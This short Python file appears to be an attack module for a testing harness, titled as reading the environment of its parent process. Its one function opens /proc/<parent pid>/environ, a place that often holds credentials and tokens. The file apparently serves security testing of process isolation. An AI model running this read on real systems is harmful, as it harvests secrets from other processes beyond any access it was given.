# /// attack
# title = "Reads the environment of its parents"
# moments = ["exit"]
# ///
import os

def attack():
    return open(f"/proc/{os.getppid()}/environ", "rb").read()
